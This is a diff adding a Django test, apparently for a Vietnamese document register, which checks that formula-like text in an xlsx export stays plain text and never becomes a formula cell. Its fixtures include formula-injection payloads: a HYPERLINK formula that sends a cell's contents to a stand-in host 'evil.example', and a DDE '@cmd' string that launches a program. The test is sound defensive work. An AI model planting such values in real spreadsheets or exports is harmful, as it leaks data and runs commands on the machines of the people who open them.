@@ -411,3 +411,28 @@ def test_the_print_page_shows_what_is_wrong_with_the_range(book, alpha):
 def test_the_menu_offers_printing_to_clerks_and_leaders_only(book, alpha):
     assert PAGE in client_as(alpha, book["clerk"].user).get("/").content.decode()
     assert PAGE not in client_as(alpha, book["reader"].user).get("/").content.decode()
+
+
+@pytest.mark.django_db
+def test_text_typed_like_a_formula_is_printed_as_text_and_never_a_formula_cell(alpha):
+    import zipfile
+
+    clerk = make_person(Role.CLERK)
+    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
+    RegisteredIncomingFactory(
+        by=clerk,
+        arrival_date=d(2, 2),
+        issued_date=d(1, 2),
+        issuer=hostile,
+        subject="+SUM(1,2)",
+        description="@cmd|' /C calc'!A0",
+    )
+    response = export(client_as(alpha, clerk.user), default_register(), format="xlsx", year=YEAR)
+    wb = workbook(response)
+    cells = [cell for sheet in wb for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    row = table(wb)[2][0]
+    assert row[2] == hostile and row[5] == "Công văn: +SUM(1,2)" and row[9] == "@cmd|' /C calc'!A0"
+    assert wb["Sổ đăng ký"]["C4"].quotePrefix
+    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
+        assert "<f>" not in archive.read("xl/worksheets/sheet2.xml").decode()
